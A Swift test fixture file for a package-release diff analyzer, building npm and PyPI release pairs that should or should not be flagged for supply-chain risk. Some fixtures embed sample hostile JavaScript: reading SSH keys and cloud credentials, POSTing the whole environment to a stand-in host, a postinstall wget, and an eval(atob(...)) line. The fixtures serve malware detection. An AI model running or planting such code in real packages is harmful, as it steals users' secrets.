import Registry
import Screening
import TestSupport

@testable import Analyzers

/// The pairs of releases that the rules about differences are tested with: one on which each detail is noticed, and for
/// every rule one that comes near and is honest.
struct IncrementFixtures {
    typealias Make = @Sendable () throws -> ReleasePair

    let flagged: [Observation: Make]
    /// By rule id.
    let clean: [String: Make]

    static let all: [IncrementFixtures] = [capabilityGrowthFixtures, installGrowthFixtures, shapeGrowthFixtures]
}

/// An npm package that becomes another one in a step.
func step(
    _ version: String, from base: [(String, String)] = [], to new: [(String, String)], baseMembers: String = "",
    members: String = ""
) throws -> ReleasePair {
    ReleasePair(
        base: try npmRelease("1.2.3", base, members: baseMembers), new: try npmRelease(version, new, members: members))
}

private let client = "const https = require('https')\nexports.get = (path, then) => https.get({ path }, then)\n"

private let capabilityTexts: [Capability: String] = [
    .network: client, .process: "exports.run = (name) => require('child_process').execFile(name)\n",
    .fileRead: "exports.read = (path) => require('fs').readFileSync(path)\n",
    .fileWrite: "exports.save = (path, text) => require('fs').writeFileSync(path, text)\n",
    .fileDelete: "exports.drop = (path) => require('fs').unlinkSync(path)\n",
    .environment: "exports.home = () => process.env.EDITOR\n",
    .environmentSecret: "exports.key = () => process.env.ACME_TOKEN\n",
    .environmentAll: "exports.all = () => Object.assign({}, process.env)\n",
    .evaluation: "exports.evaluate = (text) => eval(text)\n",
    .dynamicLoad: "exports.load = (name) => require(name)\n",
    .foreignCode: "exports.open = (name) => require('ffi-napi').Library(name, {})\n",
    .crypto: "exports.hash = (text) => require('crypto').createHash('sha256').update(text).digest('hex')\n",
    .clipboard: "exports.copy = () => require('clipboardy').readSync()\n",
    .screen: "exports.shot = () => require('screenshot-desktop')()\n",
    .keyboard: "exports.listen = () => require('iohook').on('keydown', () => {})\n",
    .systemFacts: """
    const os = require('os')
    exports.facts = () => [os.hostname(), os.userInfo().username, os.platform(), os.networkInterfaces()]

    """,
]

private let capabilityPairs: [Observation: IncrementFixtures.Make] = {
    var found: [Observation: IncrementFixtures.Make] = [:]
    for (capability, text) in capabilityTexts {
        found[.capabilityCame(capability)] = { try step("1.3.0", to: [("lib/more.js", text)]) }
    }
    return found
}()

private let install = "exports.add = (name) => require('child_process').execSync('npm install left')\n"
private let secretReading = "exports.b = (path) => require('fs').readFileSync(path)\n"

private let gravePairs: [Observation: IncrementFixtures.Make] = [
    .capabilityCame(.native): { try step("1.3.0", to: [("lib/more.node", "\u{7F}ELF\u{2}\u{1}\u{1}\u{0}box")]) },
    .capabilityCame(.installer): { try step("1.3.0", to: [("lib/more.js", install)]) },
    .graveInPatch: { try step("1.2.4", to: [("lib/more.js", client)]) },
    .graveInMinor: {
        let code: String = "require('child_process').execSync('uname')\n" + honestLibrary
        return try step("1.3.0", to: [("index.js", code)])
    },
    .capabilitiesGather: {
        let secret = ("lib/b.js", "exports.a = process.env.ACME_TOKEN\n")
        return try step("1.3.0", to: [("lib/a.js", client), secret, ("lib/c.js", secretReading)])
    },
]

private let homeReading = """
    exports.names = ['.aws/credentials', '.npmrc', '.ssh/id_rsa']
    exports.read = () => require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa')

    """
private let telling = """
    exports.tell = () => fetch('https://box.acme.dev/', { method: 'POST', body: JSON.stringify(Object.entries(process.env)) })

    """

private let riskPairs: [Observation: IncrementFixtures.Make] = [
    .fileBecameSuspicious: {
        try step("1.3.0", from: [("README.md", "# Box\n")], to: [("README.md", "# Box \u{202E}xob\n")])
    },
    .fileBecameMalicious: {
        let code: String = honestLibrary + "eval(atob('Y29uc29sZS5sb2coJ2FjbWUgYm94IHNheXMgaGVsbG8nKQ=='))\n"
        return try step("1.2.4", from: [("index.js", honestLibrary)], to: [("index.js", code)])
    },
    .secretsMeetNetwork: {
        let code: String = client + homeReading
        return try step("1.2.4", from: [("index.js", client)], to: [("index.js", code)])
    },
    .factsMeetNetwork: {
        let code: String = client + telling
        return try step("1.3.0", from: [("index.js", client)], to: [("index.js", code)])
    },
]

private let hostPairs: [Observation: IncrementFixtures.Make] = [
    .hostCame: { try step("1.3.0", from: [("index.js", client)], to: [("index.js", namedHost)]) },
    .hostCameInPatch: { try step("1.2.4", from: [("index.js", client)], to: [("index.js", namedHost)]) },
    .hostCameWithCapability: { try step("1.3.0", to: [("index.js", namedHost)]) },
    .dependencyCame: {
        try step("1.3.0", to: [], baseMembers: dependencies("left"), members: dependencies("left", "right"))
    },
    .dependencyCameInPatch: { try step("1.2.4", to: [], members: dependencies("right")) },
]

private let mentionedHosts = """
    // https://other.dev/
    throw new Error('Please read https://more.dev/ about it')
    exports.a = 'https://api.acme.dev/'
    exports.b = 'http://localhost:80/'

    """

let capabilityGrowthFixtures = IncrementFixtures(
    flagged: [capabilityPairs, gravePairs, riskPairs, hostPairs].reduce(into: [:]) { all, some in
        all.merge(some) { _, own in own }
    },
    clean: [
        "D-CAP": {
            try step("1.2.4", from: [("lib/a.js", client)], to: [("lib/b.js", client), ("test/c.js", "eval(x)\n")])
        },
        "D-RISK": {
            try step("1.2.4", from: [("index.js", client)], to: [("lib/index.js", client), ("index.js", client)])
        },
        "D-NEWHOST": {
            let readme = ("README.md", "See https://docs.acme.dev/box\n")
            let code: String = client + mentionedHosts
            return try step("1.2.4", from: [("index.js", client), readme], to: [("index.js", code), readme])
        },
        "DEP-NEW": {
            let more = "Requires-Dist: Left >= 2\nRequires-Dist: right ; extra == 'more'\n"
            return ReleasePair(
                base: try wheelRelease("1.2.3", metadata: "Requires-Dist: left>=1\n"),
                new: try wheelRelease("1.2.4", metadata: more))
        },
    ])

private let namedHost = client + "exports.home = 'https://api.acme.dev/v1'\n"

private func dependencies(_ names: String...) -> String {
    #","dependencies":{\#(names.map { "\"\($0)\":\"^1.0.0\"" }.joined(separator: ","))}"#
}

private func scripts(_ text: String) -> String { #","scripts":{\#(text)}"# }

let installGrowthFixtures = IncrementFixtures(
    flagged: [
        .installScriptAdded: { try step("2.0.0", to: [], members: scripts(#""postinstall":"node index.js""#)) },
        .installScriptChanged: {
            try step(
                "2.0.0", to: [], baseMembers: scripts(#""install":"node index.js""#),
                members: scripts(#""install":"node index.js --all""#))
        },
        .buildCommandsChanged: {
            try step("2.0.0", to: [("binding.gyp", "{'targets': [{'target_name': 'a', 'sources': ['a.cc']}]}")])
        },
        .startFileChanged: {
            ReleasePair(
                base: try wheelRelease("1.2.3"), new: try wheelRelease("2.0.0", [("acme.pth", "import acme_box\n")]))
        },
        .buildHookChanged: {
            func release(_ version: String, _ backend: String) throws -> Artifact {
                try sourceRelease(version, "[build-system]\nrequires = []\nbuild-backend = \"\(backend)\"\n")
            }
            return ReleasePair(base: try release("1.2.3", "one.api"), new: try release("1.2.4", "two.api"))
        },
        .installCodeChanged: {
            ReleasePair(
                base: try sourceRelease("1.2.3", ""),
                new: try sourceRelease("1.2.4", "", setup: "from setuptools import setup\nsetup(name='acme_box')\n"))
        },
        .installGrewWithFinding: {
            try step("1.2.4", to: [], members: scripts(#""postinstall":"wget https://x.acme.dev/a""#))
        },
    ],
    clean: [
        "D-INSTALL": {
            try step(
                "1.2.4", to: [],
                baseMembers: scripts(#""install":"node index.js","test":"node a.js""#),
                members: scripts(#""test":"node b.js && node c.js","prepare":"tsc","install":"node index.js""#))
        }
    ])

/// A source distribution of `acme-box` with a pyproject.toml and a setup script.
func sourceRelease(
    _ version: String, _ project: String, setup: String = "from setuptools import setup\nsetup()\n"
) throws -> Artifact {
    var tar = TarBuilder()
    let root = "acme_box-\(version)"
    tar.addFile("\(root)/PKG-INFO", "Metadata-Version: 2.1\nName: acme_box\nVersion: \(version)\n")
    tar.addFile("\(root)/setup.py", setup)
    tar.addFile("\(root)/pyproject.toml", project)
    let artifact = try npmArtifact(StoredGzip.member(tar.finished()), version: version)
    return Artifact(
        bytes: artifact.bytes,
        context: ArtifactContext(
            ecosystem: .pypi, purl: try .init(parsing: "pkg:pypi/acme-box@\(version)"), filename: "\(root).tar.gz"))
}

/// One line of code, as tools press it.
private let pressed = "exports.a=function(b){return[" + (0..<400).map { "b[\($0)]" }.joined(separator: ",") + "]}\n"
private let readable = honestFunctions(0..<40)

let shapeGrowthFixtures = IncrementFixtures(
    flagged: [
        .patchIsLarge: { try step("1.2.4", to: [("lib/more.js", honestFunctions(0..<100))]) },
        .patchIsLargeAndOdd: {
            try step("1.2.4", to: [("lib/more.js", honestFunctions(0..<100))], members: dependencies("right"))
        },
        .onlyBuildsChanged: {
            let source = ("src/a.js", honestFunctions(0..<2))
            return try step(
                "1.3.0", from: [source, ("dist/a.js", readable)], to: [source, ("dist/a.js", readable + "f(1)\n")])
        },
        .onlyBuildsGrew: {
            let source = ("src/a.js", honestFunctions(0..<2))
            return try step(
                "1.3.0", from: [source, ("dist/a.js", readable)], to: [source, ("dist/a.js", readable + client)])
        },
        .readableBecameMinified: { try step("1.3.0", from: [("lib/a.js", readable)], to: [("lib/a.js", pressed)]) },
        .minifiedInLargeStep: { try step("2.0.0", from: [("lib/a.js", readable)], to: [("lib/a.js", pressed)]) },
        .testsRemoved: { try step("1.3.0", from: [("test/a.js", "f(1)\n")], to: []) },
        .readmeRemoved: { try step("1.3.0", from: [("README.md", "# Box\n")], to: []) },
        .signatureRemoved: { try step("1.3.0", from: [("box.tgz.asc", "proof\n")], to: []) },
    ],
    clean: [
        "D-PATCH-BIG": {
            try step(
                "1.2.4", from: [("lib/a.js", honestFunctions(0..<200))],
                to: [("lib/b.js", honestFunctions(0..<100)), ("lib/c.js", honestFunctions(100..<204))])
        },
        "D-ONLY-ARTIFACT": {
            try step(
                "1.3.0", from: [("src/a.js", readable), ("dist/a.js", readable)],
                to: [("src/a.js", readable + "f(1)\n"), ("dist/a.js", readable + "f(1)\n")])
        },
        "D-MINIFIED": {
            try step(
                "1.3.0", from: [("dist/a.min.js", readable), ("lib/b.js", pressed)],
                to: [("dist/a.min.js", pressed), ("lib/b.js", pressed + "f(1)\n")])
        },
        "D-REMOVED": { try step("1.3.0", from: [("test/a.js", "f(1)\n")], to: [("tests/b.js", "f(2)\n")]) },
    ])
